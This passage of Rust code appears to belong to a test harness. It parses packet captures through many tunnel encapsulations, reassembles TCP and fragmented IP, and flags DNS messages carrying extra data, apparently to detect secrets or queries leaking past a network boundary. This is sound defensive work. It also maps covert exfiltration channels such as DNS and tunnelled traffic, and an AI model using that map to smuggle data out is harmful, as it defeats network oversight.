    fn names_under(&self, zone: &str) -> BTreeSet<String> {
        self.found
            .iter()
            .flat_map(|f| f.names.iter())
            .filter(|n| n.ends_with(zone))
            .cloned()
            .collect()
    }

    fn has(&self, needle: &[u8]) -> bool {
        self.hay.iter().any(|h| contains(h, needle))
    }
}

fn norm(name: &str) -> String {
    name.trim_end_matches('.').to_ascii_lowercase()
}

/// Decodes the far-side pcaps: every frame the server side received (not what it sent), down
/// through every encapsulation the probes use.
fn analyse(pcaps: &[Vec<u8>]) -> Seen {
    let mut w = Walker::default();
    for pcap in pcaps {
        let link = match pcap.get(..4) {
            Some([0xd4, 0xc3, 0xb2, 0xa1] | [0x4d, 0x3c, 0xb2, 0xa1]) => pcap
                .get(20..24)
                .map(|b| u32::from_le_bytes(b.try_into().unwrap())),
            Some([0xa1, 0xb2, 0xc3, 0xd4] | [0xa1, 0xb2, 0x3c, 0x4d]) => be32(pcap, 20),
            _ => None,
        }
        .expect("tcpdump wrote a pcap file");
        w.seen.links.push(link);
        // a record cut short at the end ends the iteration with an error: the frames before
        // count
        for f in read_capture(&pcap[..])
            .expect("reading a capture")
            .flatten()
        {
            w.seen.frames += 1;
            let Some(l3) = link_payload(link, &f.data) else {
                continue;
            };
            w.seen.received += 1;
            w.seen.hay.push(l3.to_vec());
            let _ = w.ip(l3, 0, "");
        }
    }
    w.finish()
}

/// The IP packet of a captured frame the server side received (PACKET_OUTGOING skipped), VLAN
/// tags stepped over. Ethernet, Linux cooked v1/v2 (what `-i any` writes) and raw IP.
fn link_payload(link: u32, d: &[u8]) -> Option<&[u8]> {
    let (pkttype, mut proto, mut rest) = match link {
        1 => (0, be16(d, 12)?, d.get(14..)?),
        113 => (be16(d, 0)?, be16(d, 14)?, d.get(16..)?),
        276 => (u16::from(*d.get(10)?), be16(d, 0)?, d.get(20..)?),
        12 | 14 | 101 | 228 | 229 => (0, if d.first()? >> 4 == 6 { 0x86dd } else { 0x0800 }, d),
        _ => return None,
    };
    if pkttype == 4 {
        return None;
    }
    for _ in 0..4 {
        if !matches!(proto, 0x8100 | 0x88a8) {
            break;
        }
        proto = be16(rest, 2)?;
        rest = rest.get(4..)?;
    }
    matches!(proto, 0x0800 | 0x86dd).then_some(rest)
}

const MAX_DEPTH: usize = 4;

#[derive(Default)]
struct Stream {
    isn: Option<u32>,
    segs: Vec<(u32, Vec<u8>)>,
}

struct Fragments {
    proto: u8,
    src: IpAddr,
    dst: IpAddr,
    via: String,
    /// (byte offset, payload, more fragments)
    pieces: Vec<(usize, Vec<u8>, bool)>,
}

#[derive(Default)]
struct Walker {
    seen: Seen,
    streams: HashMap<String, Stream>,
    frags: HashMap<String, Fragments>,
}

impl Walker {
    fn ip(&mut self, b: &[u8], depth: usize, via: &str) -> Option<()> {
        if depth > MAX_DEPTH {
            return None;
        }
        match b.first()? >> 4 {
            4 => self.ipv4(b, depth, via),
            6 => self.ipv6(b, depth, via),
            _ => None,
        }
    }

    fn ipv4(&mut self, b: &[u8], depth: usize, via: &str) -> Option<()> {
        let ihl = usize::from(b.first()? & 0x0f) * 4;
        let total = usize::from(be16(b, 2)?).min(b.len());
        if ihl < 20 || total < ihl {
            return None;
        }
        let (id, fo, proto) = (be16(b, 4)?, be16(b, 6)?, b[9]);
        let src = IpAddr::from(<[u8; 4]>::try_from(&b[12..16]).ok()?);
        let dst = IpAddr::from(<[u8; 4]>::try_from(&b[16..20]).ok()?);
        let payload = &b[ihl..total];
        let (more, offset) = (fo & 0x2000 != 0, usize::from(fo & 0x1fff) * 8);
        if more || offset > 0 {
            self.frags
                .entry(format!("{via} {src}>{dst} id {id} proto {proto}"))
                .or_insert_with(|| Fragments {
                    proto,
                    src,
                    dst,
                    via: via.to_string(),
                    pieces: Vec::new(),
                })
                .pieces
                .push((offset, payload.to_vec(), more));
            return Some(());
        }
        self.l4(proto, payload, (src, dst), depth, via)
    }

    fn ipv6(&mut self, b: &[u8], depth: usize, via: &str) -> Option<()> {
        if b.len() < 40 {
            return None;
        }
        let end = (40 + usize::from(be16(b, 4)?)).min(b.len());
        let src = IpAddr::from(<[u8; 16]>::try_from(&b[8..24]).ok()?);
        let dst = IpAddr::from(<[u8; 16]>::try_from(&b[24..40]).ok()?);
        let (mut next, mut off) = (b[6], 40);
        for _ in 0..8 {
            match next {
                0 | 43 | 60 => {
                    next = *b.get(off)?;
                    off += (usize::from(*b.get(off + 1)?) + 1) * 8;
                }
                51 => {
                    next = *b.get(off)?;
                    off += (usize::from(*b.get(off + 1)?) + 2) * 4;
                }
                44 => {
                    // only an atomic fragment is read here (secrets are searched in all)
                    if be16(b, off + 2)? & 0xfff9 != 0 {
                        return None;
                    }
                    next = *b.get(off)?;
                    off += 8;
                }
                _ => break,
            }
        }
        self.l4(next, b.get(off..end)?, (src, dst), depth, via)
    }

    fn l4(
        &mut self,
        proto: u8,
        p: &[u8],
        addrs: (IpAddr, IpAddr),
        depth: usize,
        via: &str,
    ) -> Option<()> {
        match proto {
            4 => self.ip(p, depth + 1, &format!("{via}/ipip")),
            41 => self.ip(p, depth + 1, &format!("{via}/sit")),
            47 => self.gre(p, depth, via),
            17 => self.udp(p, depth, via),
            6 => self.tcp(p, addrs, via),
            _ => None,
        }
    }

    fn gre(&mut self, p: &[u8], depth: usize, via: &str) -> Option<()> {
        let (flags, proto) = (be16(p, 0)?, be16(p, 2)?);
        // checksum, key and sequence number fields, when flagged
        let skip = 4 + 4 * [0x8000u16, 0x2000, 0x1000]
            .iter()
            .filter(|&&f| flags & f != 0)
            .count();
        let inner = p.get(skip..)?;
        let via = format!("{via}/gre");
        match proto {
            0x0800 | 0x86dd => self.ip(inner, depth + 1, &via),
            0x6558 => self.eth(inner, depth + 1, &via),
            _ => None,
        }
    }

    fn eth(&mut self, f: &[u8], depth: usize, via: &str) -> Option<()> {
        let (mut proto, mut off) = (be16(f, 12)?, 14);
        for _ in 0..4 {
            if !matches!(proto, 0x8100 | 0x88a8) {
                break;
            }
            proto = be16(f, off + 2)?;
            off += 4;
        }
        if !matches!(proto, 0x0800 | 0x86dd) {
            return None;
        }
        self.ip(f.get(off..)?, depth, via)
    }

    fn udp(&mut self, u: &[u8], depth: usize, via: &str) -> Option<()> {
        let (dport, len) = (be16(u, 2)?, usize::from(be16(u, 4)?));
        let end = if (8..=u.len()).contains(&len) {
            len
        } else {
            u.len()
        };
        let p = u.get(8..end)?;
        let via = format!("{via}/udp:{dport}");
        // DNS on any port, and every message of a GSO batch (the super-packet is captured
        // whole when it crosses the veth unsegmented)
        self.dns(p, &via);
        if depth < MAX_DEPTH {
            if dport == 4789 && p.len() > 8 && p[0] & 0x08 != 0 {
                let _ = self.eth(&p[8..], depth + 1, &format!("{via}/vxlan"));
            }
            if dport == 6081 && p.len() >= 8 && p[0] >> 6 == 0 && be16(p, 2) == Some(0x6558) {
                let h = 8 + 4 * usize::from(p[0] & 0x3f);
                if let Some(inner) = p.get(h..) {
                    let _ = self.eth(inner, depth + 1, &format!("{via}/geneve"));
                }
            }
            // IP packets carried in UDP (a userspace VPN)
            if matches!(p.first().map(|b| b >> 4), Some(4 | 6)) {
                let _ = self.ip(p, depth + 1, &format!("{via}/ip"));
            }
        }
        Some(())
    }

    fn tcp(&mut self, t: &[u8], (src, dst): (IpAddr, IpAddr), via: &str) -> Option<()> {
        let (sport, dport, seq) = (be16(t, 0)?, be16(t, 2)?, be32(t, 4)?);
        let (doff, flags) = (usize::from(t.get(12)? >> 4) * 4, *t.get(13)?);
        let payload = t.get(doff..)?;
        let s = self
            .streams
            .entry(format!("{via}/tcp {src}:{sport}>{dst}:{dport}"))
            .or_default();
        if flags & 0x02 != 0 {
            s.isn = Some(seq.wrapping_add(1));
        }
        if !payload.is_empty() {
            s.segs.push((seq, payload.to_vec()));
        }
        Some(())
    }

    /// Every DNS message in `p`, one after the other; bytes after the last one mark it as
    /// carrying data outside its question.
    fn dns(&mut self, p: &[u8], via: &str) {
        let mut rest = p;
        for _ in 0..64 {
            let Some(info) = walk_msg(rest) else {
                break;
            };
            let msg = &rest[..info.len];
            let names = match parse_message(msg) {
                Ok(m) => m
                    .questions
                    .iter()
                    .map(|q| norm(&q.name.to_string()))
                    .collect(),
                Err(_) => info.qnames,
            };
            self.seen.found.push(Found {
                names,
                outside: info.outside,
                via: via.to_string(),
            });
            rest = &rest[info.len..];
            if rest.is_empty() {
                return;
            }
        }
        if rest.len() < p.len() {
            if let Some(last) = self.seen.found.last_mut() {
                last.outside = true;
            }
        }
    }

    /// Reassembles TCP streams (DNS messages read as the server reads them, from the start,
    /// up to the first hole) and IPv4 datagrams (decoded when complete).
    fn finish(mut self) -> Seen {
        for (key, s) in std::mem::take(&mut self.streams) {
            let Some(base) = s.isn.or_else(|| s.segs.first().map(|x| x.0)) else {
                continue;
            };
            let mut buf: Vec<u8> = Vec::new();
            let mut have: Vec<bool> = Vec::new();
            for (seq, data) in &s.segs {
                let at = seq.wrapping_sub(base) as usize;
                if at > 1 << 20 {
                    continue;
                }
                if buf.len() < at + data.len() {
                    buf.resize(at + data.len(), 0);
                    have.resize(at + data.len(), false);
                }
                buf[at..at + data.len()].copy_from_slice(data);
                have[at..at + data.len()].fill(true);
            }
            self.seen.hay.extend(runs(&buf, &have));
            let mut pos = 0;
            while have.get(pos..pos + 2).is_some_and(|h| h.iter().all(|&x| x)) {
                let len = usize::from(u16::from_be_bytes([buf[pos], buf[pos + 1]]));
                if !have
                    .get(pos + 2..pos + 2 + len)
                    .is_some_and(|h| h.iter().all(|&x| x))
                {
                    break;
                }
                let msg = buf[pos + 2..pos + 2 + len].to_vec();
                self.dns(&msg, &key);
                pos += 2 + len;
            }
        }
        for (_, f) in std::mem::take(&mut self.frags) {
            let size = f
                .pieces
                .iter()
                .map(|p| p.0 + p.1.len())
                .max()
                .unwrap_or(0)
                .min(1 << 17);
            let (mut buf, mut have) = (vec![0u8; size], vec![false; size]);
            for (off, data, _) in &f.pieces {
                if off + data.len() <= size {
                    buf[*off..off + data.len()].copy_from_slice(data);
                    have[*off..off + data.len()].fill(true);
                }
            }
            self.seen.hay.extend(runs(&buf, &have));
            let total = f.pieces.iter().find(|p| !p.2).map(|p| p.0 + p.1.len());
            if let Some(total) = total.filter(|&t| t <= size && have[..t].iter().all(|&x| x)) {
                let dg = buf[..total].to_vec();
                let _ = self.l4(
                    f.proto,
                    &dg,
                    (f.src, f.dst),
                    1,
                    &format!("{}/fragments", f.via),
                );
            }
        }
        self.seen
    }
}

/// The stretches of `buf` that are present.
fn runs(buf: &[u8], have: &[bool]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut start = None;
    for i in 0..=buf.len() {
        match (start, have.get(i).copied().unwrap_or(false)) {
            (None, true) => start = Some(i),
            (Some(s), false) => {
                out.push(buf[s..i].to_vec());
                start = None;
            }
            _ => {}
        }
    }
    out
}

struct MsgInfo {
    len: usize,
    qnames: Vec<String>,
    outside: bool,
}

/// Walks one DNS message's sections: its length, question names and whether it carries data
/// outside the question. None when `b` does not start with a well-formed message.
fn walk_msg(b: &[u8]) -> Option<MsgInfo> {
    let qd = usize::from(be16(b, 4)?);
    let (an, ns, ar) = (
        usize::from(be16(b, 6)?),
        usize::from(be16(b, 8)?),
        usize::from(be16(b, 10)?),
    );
    if qd > 4 || an + ns + ar > 32 {
        return None;
    }
    let mut off = 12;
    let mut qnames = Vec::new();
    for _ in 0..qd {
        let (name, end) = read_name(b, off)?;
        qnames.push(name);
        off = end + 4;
    }
    if off > b.len() {
        return None;
    }
    let mut outside = an > 0 || ns > 0;
    for i in 0..an + ns + ar {
        let (_, end) = read_name(b, off)?;
        let rtype = be16(b, end)?;
        let rdlen = usize::from(be16(b, end + 8)?);
        let rdata = b.get(end + 10..end + 10 + rdlen)?;
        off = end + 10 + rdlen;
        if i >= an + ns {
            outside |= rtype != 41 || opt_carries_data(rdata);
        }
    }
    Some(MsgInfo {
        len: off,
        qnames,
        outside,
    })
}

/// EDNS options beyond what clients send: option 65001, or more than 64 bytes in an option
/// that is not zero padding.
fn opt_carries_data(rdata: &[u8]) -> bool {
    let mut k = 0;
    while let (Some(code), Some(len)) = (be16(rdata, k), be16(rdata, k + 2)) {
        let Some(data) = rdata.get(k + 4..k + 4 + usize::from(len)) else {
            return true;
        };
        let zeros = code == 12 && data.iter().all(|&x| x == 0);
        if code == 65001 || (!zeros && data.len() > 64) {
            return true;
        }
        k += 4 + usize::from(len);
    }
    false
}

/// A name at `start` (compression followed, bounded): lower-case dotted form and the offset
/// just after it.
fn read_name(b: &[u8], start: usize) -> Option<(String, usize)> {
    let (mut off, mut end, mut jumps) = (start, None, 0);
    let mut labels = Vec::new();
    loop {
        let len = *b.get(off)?;
        match len {
            0 => return Some((labels.join("."), end.unwrap_or(off + 1))),
            l if l & 0xc0 == 0xc0 => {
                end.get_or_insert(off + 2);
                jumps += 1;
                if jumps > 16 {
                    return None;
                }
                off = usize::from(be16(b, off)? & 0x3fff);
            }
            l if l < 64 => {
                let label = b.get(off + 1..off + 1 + usize::from(l))?;
                labels.push(String::from_utf8_lossy(label).to_ascii_lowercase());
                if labels.len() > 127 {
                    return None;
                }
                off += 1 + usize::from(l);
            }
            _ => return None,
        }
    }
}
